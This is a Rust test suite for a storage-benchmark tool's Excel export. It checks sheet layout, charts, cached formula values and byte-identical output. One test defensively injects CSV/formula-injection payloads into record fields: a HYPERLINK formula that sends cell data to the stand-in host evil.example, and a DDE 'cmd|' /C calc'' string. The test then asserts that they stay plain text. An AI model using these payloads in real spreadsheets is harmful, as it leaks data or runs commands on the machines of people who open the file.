//! The workbook read back by another library: its numbers are the summary's, its formulas come to
//! them, and no text is a formula.

use super::workbook;
use calamine::{Data, Range, Reader, Xlsx};
use kvdyno_analysis::answers::summary::Summary;
use kvdyno_analysis::figures::catalogue as c;
use kvdyno_analysis::figures::evidence::Evidence;
use kvdyno_analysis::fixture::{Fixture, FixtureCase};
use kvdyno_record::case::ThreadWindow;
use std::collections::BTreeMap;
use std::io::Cursor;

mod evaluate;

/// A cell's row and column, and its formula.
type Formula = ((u32, u32), String);

/// The sheets of a workbook: values, and formulas by cell.
struct Read {
    values: BTreeMap<String, Range<Data>>,
    formulas: BTreeMap<String, Vec<Formula>>,
    bytes: Vec<u8>,
}

fn written(fixture: &Fixture) -> (Summary, Vec<u8>) {
    let dir = kvdyno_analysis::fixture::make_dir();
    let run = fixture.write(&dir.path().join("run"));
    let evidence = Evidence::read(&run).unwrap();
    let summary = Summary::from_evidence(&evidence).unwrap();
    let bytes = workbook(&evidence, &summary).unwrap();
    (summary, bytes)
}

fn read(bytes: Vec<u8>) -> Read {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
    let mut read = Read { values: BTreeMap::new(), formulas: BTreeMap::new(), bytes };
    for name in book.sheet_names() {
        read.values.insert(name.clone(), book.worksheet_range(&name).unwrap());
        let formulas = book.worksheet_formula(&name).unwrap();
        let (top, first_column) = formulas.start().unwrap_or_default();
        let cells = formulas.used_cells().map(|(row, column, formula)| {
            ((top + row as u32, first_column + column as u32), formula.clone())
        });
        read.formulas.insert(name, cells.collect());
    }
    read
}

impl Read {
    /// Rows of a sheet by heading.
    fn rows(&self, sheet: &str) -> Vec<BTreeMap<String, Data>> {
        let range = &self.values[sheet];
        let head: Vec<String> = range.rows().next().unwrap().iter().map(Data::to_string).collect();
        let row = |cells: &[Data]| head.iter().cloned().zip(cells.iter().cloned()).collect();
        range.rows().skip(1).map(row).collect()
    }

    fn number(&self, sheet: &str, at: (u32, u32)) -> Option<f64> {
        match self.values.get(sheet)?.get_value(at)? {
            Data::Float(number) => Some(*number),
            Data::Int(number) => Some(*number as f64),
            _ => None,
        }
    }
}

fn text(row: &BTreeMap<String, Data>, column: &str) -> String {
    row[column].to_string()
}

fn float(row: &BTreeMap<String, Data>, column: &str) -> f64 {
    match row[column] {
        Data::Float(number) => number,
        ref other => panic!("{column}: {other:?}"),
    }
}

#[test]
fn a_sheet_for_each_table_of_the_studies() {
    let (_, bytes) = written(&Fixture::new());
    let read = read(bytes);
    let mut sheets: Vec<&String> = read.values.keys().collect();
    sheets.sort();
    assert_eq!(
        sheets,
        [
            "Charts",
            "Cost",
            "Figures",
            "Host",
            "Latency percentiles",
            "Load",
            "Ranking",
            "Run",
            "Series",
            "Summary",
            "Time"
        ]
    );
    let has = |name: &str| read.bytes.windows(name.len()).any(|part| part == name.as_bytes());
    // Readers and writer: throughput and p99; the phase: CPU, write amplification, bytes written.
    for chart in 1..=7 {
        assert!(has(&format!("xl/charts/chart{chart}.xml")), "{chart}");
    }
    assert!(!has("xl/charts/chart8.xml"));
}

#[test]
fn engines_in_order_have_a_sheet_where_there_are_several() {
    let (summary, bytes) = written(&Fixture::new());
    let rows = read(bytes).rows("Ranking");
    let standings = summary.rankings.iter().map(|ranking| ranking.standings.len());
    assert_eq!(rows.len(), standings.sum::<usize>());
    let best = rows.iter().find(|row| text(row, "question") == "reads").unwrap();
    assert_eq!(
        (text(best, "engine").as_str(), text(best, "ratio_to_best").as_str()),
        ("LMDB", "1")
    );
    let mut alone = Fixture::new();
    alone.cases.retain(|case| case.record.case.engine == "lmdb");
    alone.plan.cases.retain(|case| case.engine == "lmdb");
    let (_, bytes) = written(&alone);
    assert!(!read(bytes).values.contains_key("Ranking"));
}

/// The study's figures as published, the run's as measured; nothing follows from them.
#[test]
fn a_study_and_claims_have_sheets_of_their_own() {
    let mut fixture = Fixture::with_trials(4);
    fixture.plan.study = Some("symas-optane-2018".to_owned());
    fixture.plan.claims = vec![crate::study::tests::claim("LMDB takes some time", None, 0.01)];
    let (summary, bytes) = written(&fixture);
    let read = read(bytes);
    let rows = read.rows("Published");
    let outputs = rows.iter().filter(|row| text(row, "metric") == "fs_outputs_512_per_record");
    let outputs: Vec<_> = outputs.collect();
    assert_eq!(outputs.len(), 10);
    assert_eq!(text(outputs[0], "value"), "10.5104967");
    let load = summary.groups[0].load.as_ref().unwrap();
    let own_value = load.metrics.value(&c::FS_OUTPUTS_PER_RECORD).unwrap().to_string();
    let cells = ["run_row", "run_value"].map(|column| text(outputs[0], column));
    assert_eq!(cells, ["LMDB".to_owned(), own_value]);
    let none = outputs.iter().find(|row| text(row, "engine") == "lmdb1").unwrap();
    let empty = (text(none, "run_value"), text(none, "why_none"));
    assert_eq!(empty, (String::new(), "engine lmdb1 was not measured".to_owned()));
    let claims = read.rows("Claims");
    assert_eq!((claims.len(), text(&claims[0], "verdict").as_str()), (1, "holds"));
    assert!(["Published", "Claims"].iter().all(|sheet| read.formulas[*sheet].is_empty()));
}

#[test]
fn what_an_idle_thread_saw_stands_below_the_latencies() {
    let mut fixture = Fixture::new();
    fixture.run.hiccups = Some(kvdyno_analysis::fixture::hiccups());
    let (summary, bytes) = written(&fixture);
    let rows = read(bytes).values["Latency percentiles"].clone();
    let last = rows.rows().next_back().unwrap()[0].to_string();
    assert_eq!(last, summary.hiccups.unwrap().line());
}

#[test]
fn the_drive_has_a_sheet_of_its_own() {
    let (summary, bytes) = written(&Fixture::with_drive(2));
    let read = read(bytes);
    let drive = read.rows("Drive");
    // Four jobs, one of which reads and writes: two trials each, and a line of both.
    assert_eq!(drive.len(), 18);
    let deep = drive.iter().find(|row| text(row, "engine") == "uring-32").unwrap();
    let group = summary.groups.iter().find(|group| group.label == "uring-32").unwrap();
    let metrics = &group.runs[0].roles[0].metrics;
    let near = |a: f64, b: f64| (a - b).abs() <= b.abs() * 1e-9;
    assert!(near(float(deep, "IOPS"), metrics.value(&c::OPS_PER_S).unwrap()));
    assert!(near(
        float(deep, "complete p99, us"),
        metrics.value(&c::COMPLETION_P99).unwrap() / 1e3
    ));
    for sheet in ["Load", "Run", "Cost"] {
        let rows = read.rows(sheet);
        assert!(rows.iter().all(|row| !text(row, "engine").contains("uring")), "{sheet}");
    }
    let cost = read.rows("Cost");
    assert_eq!([text(&cost[0], "ceiling"), text(&cost[0], "limit")], ["psync 4k x 2", "reads"]);
}

#[test]
fn numbers_are_those_of_the_summary() {
    let (summary, bytes) = written(&Fixture::new());
    let read = read(bytes);
    let run = read.rows("Run");
    let line = run
        .iter()
        .find(|row| {
            let words =
                ["engine", "threads swept", "role", "trial"].map(|column| text(row, column));
            words == ["RocksDB", "1", "writer", "all"]
        })
        .unwrap();
    let rocksdb =
        summary.groups.iter().find(|group| group.label == "RocksDB" && group.threads == Some(1));
    let role = &rocksdb.unwrap().runs[0].roles[1];
    let near = |a: f64, b: f64| (a - b).abs() <= b.abs() * 1e-12;
    assert!(near(float(line, "ops/s"), role.metrics.value(&c::OPS_PER_S).unwrap()));
    assert!(near(float(line, "vs. base"), role.relative.as_ref().unwrap().ratio));
    assert_eq!(text(line, "verdict vs. base"), "? too few trials");
    // Two trials, and the line of both.
    let of_role = |row: &&BTreeMap<String, Data>| {
        let words = ["engine", "threads swept", "role"].map(|column| text(row, column));
        words == ["RocksDB", "1", "writer"]
    };
    assert_eq!(run.iter().filter(of_role).count(), 3);
    let load = &read.rows("Load")[0];
    let metrics = &summary.groups[0].load.as_ref().unwrap().metrics;
    assert!(near(
        float(load, "write amplification, B/B"),
        metrics.value(&c::WRITE_AMPLIFICATION).unwrap()
    ));
    assert_eq!(read.rows("Figures").len(), crate::long::rows(&summary).len());
}

/// The single writer beside two readers is a single writer.
#[test]
fn a_role_stands_with_its_own_threads() {
    let (_, bytes) = written(&Fixture::new());
    let read = read(bytes);
    for sheet in ["Run", "Latency percentiles"] {
        let rows = read.rows(sheet);
        let writers = rows.iter().filter(|row| text(row, "role") == "writer");
        let threads: Vec<_> =
            writers.map(|row| [text(row, "threads swept"), text(row, "threads")]).collect();
        assert!(threads.contains(&["2".to_owned(), "1".to_owned()]), "{sheet}");
        assert!(threads.iter().all(|[_, own]| own == "1"), "{sheet}: {threads:?}");
    }
}

/// Every formula computed here, from the cells that it names, comes to the number beside it.
#[test]
fn formulas_come_to_the_numbers_that_are_cached() {
    let mut fixture = Fixture::new();
    for trial in ["lmdb_t2_r1", "lmdb_t2_r2"] {
        // One thread stalled at its end: counts are divided by a window that is no thread's own.
        let phase = fixture.case(trial).phase("measure");
        let readers = phase.roles.iter_mut().find(|role| role.role == "readers").unwrap();
        let operations = readers.ops["get"].count / 2;
        let window = |window_ns| ThreadWindow { window_ns, operations };
        readers.windows = vec![window(readers.window_ns), window(readers.window_ns * 2 / 3)];
    }
    assert_eq!(computed_sheets(&fixture), ["Charts", "Cost", "Load", "Run", "Series", "Time"]);
    // A job with too few samples in one trial has the percentiles of all trials together.
    let mut drive = Fixture::with_drive(4);
    let of_drive = |case: &&mut FixtureCase| case.record.case.engine == "drive";
    let short = drive.cases.iter_mut().filter(of_drive).nth(2).unwrap();
    for (.., histogram) in &mut short.histograms {
        let slow = histogram.max();
        histogram.clear();
        histogram.record_n(slow, 30).unwrap();
    }
    assert!(computed_sheets(&drive).contains(&"Drive".to_owned()));
}

/// The sheets with more than ten formulas, each of which was computed.
fn computed_sheets(fixture: &Fixture) -> Vec<String> {
    let (_, bytes) = written(fixture);
    let read = read(bytes);
    for (sheet, formulas) in &read.formulas {
        for (at, formula) in formulas {
            let cell = |window: Option<&str>, at| read.number(window.unwrap_or(sheet), at);
            let computed = evaluate::formula(formula, &cell);
            let cached = read.number(sheet, *at).unwrap();
            let near = (computed - cached).abs() <= cached.abs() * 1e-9;
            assert!(near, "{sheet} {at:?}: {formula} = {computed}, cached {cached}");
        }
    }
    let counted = read.formulas.iter().filter(|(_, formulas)| formulas.len() > 10);
    counted.map(|(sheet, _)| sheet.clone()).collect()
}

#[test]
fn text_of_a_record_is_never_a_formula() {
    let mut fixture = Fixture::new();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_owned();
    fixture.plan.title.clone_from(&evil);
    fixture.run.host_before.hostname = "@SUM(1+1)*cmd|' /C calc'!A0".to_owned();
    fixture.run.command = vec![evil.clone()];
    for case in &mut fixture.plan.cases {
        case.label = format!("{evil}{}", case.label);
    }
    for case in &mut fixture.cases {
        case.record.case.label = format!("{evil}{}", case.record.case.label);
        case.record.not_measured = vec![format!("+{evil}\u{0}\x1b[2J")];
    }
    let (_, bytes) = written(&fixture);
    let read = read(bytes);
    let title = read.values["Summary"].get_value((0, 0)).unwrap();
    assert_eq!(title, &Data::String(evil.clone()));
    let labels = read.rows("Load").iter().map(|row| text(row, "engine")).collect::<Vec<_>>();
    assert!(labels.iter().any(|label| label.starts_with("=HYPERLINK")), "{labels:?}");
    for (sheet, formulas) in &read.formulas {
        for (_, formula) in formulas {
            assert!(
                !formula.contains("HYPERLINK") && !formula.contains("cmd"),
                "{sheet}: {formula}"
            );
        }
    }
}

#[test]
fn the_same_record_gives_the_same_bytes() {
    let fixture = Fixture::new();
    let first = written(&fixture).1;
    std::thread::sleep(std::time::Duration::from_millis(1100));
    assert!(first == written(&fixture).1);
}

#[test]
fn a_run_without_any_figure_has_sheets_all_the_same() {
    let mut fixture = Fixture::new();
    fixture.cases.clear();
    let (_, bytes) = written(&fixture);
    assert_eq!(read(bytes).values.len(), 10);
}

#[test]
fn texts_longer_than_a_cell_are_cut() {
    let mut fixture = Fixture::new();
    fixture.plan.title = "long ".repeat(20_000);
    let (_, bytes) = written(&fixture);
    let title = read(bytes).values["Summary"].get_value((0, 0)).unwrap().to_string();
    assert!(title.len() < 9_000 && title.ends_with("..."), "{}", title.len());
}
